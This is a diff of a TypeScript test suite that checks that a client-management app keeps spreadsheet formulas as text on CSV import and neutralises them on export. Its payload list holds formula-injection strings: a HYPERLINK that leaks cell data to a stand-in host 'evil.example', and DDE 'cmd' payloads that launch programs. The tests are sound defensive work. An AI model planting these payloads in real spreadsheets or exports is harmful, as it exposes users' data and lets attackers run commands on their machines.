@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { Api, Business, addCoach, newClient, signUp, uniqueEmail } from '../support/http';
-import { RunningSystem, startInProcess } from '../support/in-process';
+import { inProcessForSuite } from '../support/in-process';
 import { recordCheck } from '../support/reliability-report';
 
 /**
@@ -12,17 +12,14 @@ import { recordCheck } from '../support/reliability-report';
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', "=cmd|' /C notepad'!A1"];
 
 describe('CSV: formulas are kept as text on import and neutralised on export', () => {
-  let system: RunningSystem;
+  const inProcess = inProcessForSuite();
   let business: Business;
   let coach: { api: Api; id: string };
 
   beforeAll(async () => {
-    system = await startInProcess();
-    business = await signUp(system.api);
+    business = await signUp(inProcess.api);
     coach = await addCoach(business);
   }, 60_000);
-
-  afterAll(() => system?.stop());
 
   const rows = (text: string) => parse(text.replace(/^\ufeff/, ''), { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
 
@@ -72,12 +69,12 @@ describe('CSV: formulas are kept as text on import and neutralised on export', (
     const exported = rows(String((await coach.api.call<string>('GET', '/api/v1/clients/export')).body));
     expect(exported.map((r) => r.email)).toEqual([mine.body.email]);
     expect(exported.map((r) => r.email)).not.toContain(theirs.body.email);
-    const other = await signUp(system.api);
+    const other = await signUp(inProcess.api);
     expect(rows(String((await other.admin.call<string>('GET', '/api/v1/clients/export')).body))).toEqual([]);
   });
 
   it('refuses the anonymous, clients and bad filters with a problem', async () => {
-    const anonymous = await system.api.get<any>('/api/v1/clients/export');
+    const anonymous = await inProcess.api.get<any>('/api/v1/clients/export');
     expect([anonymous.status, anonymous.body.code]).toEqual([401, 'unauthorized']);
     const badFilter = await business.admin.get<any>('/api/v1/clients/export?type=everyone');
     expect([badFilter.status, badFilter.body.code]).toEqual([400, 'validation_failed']);
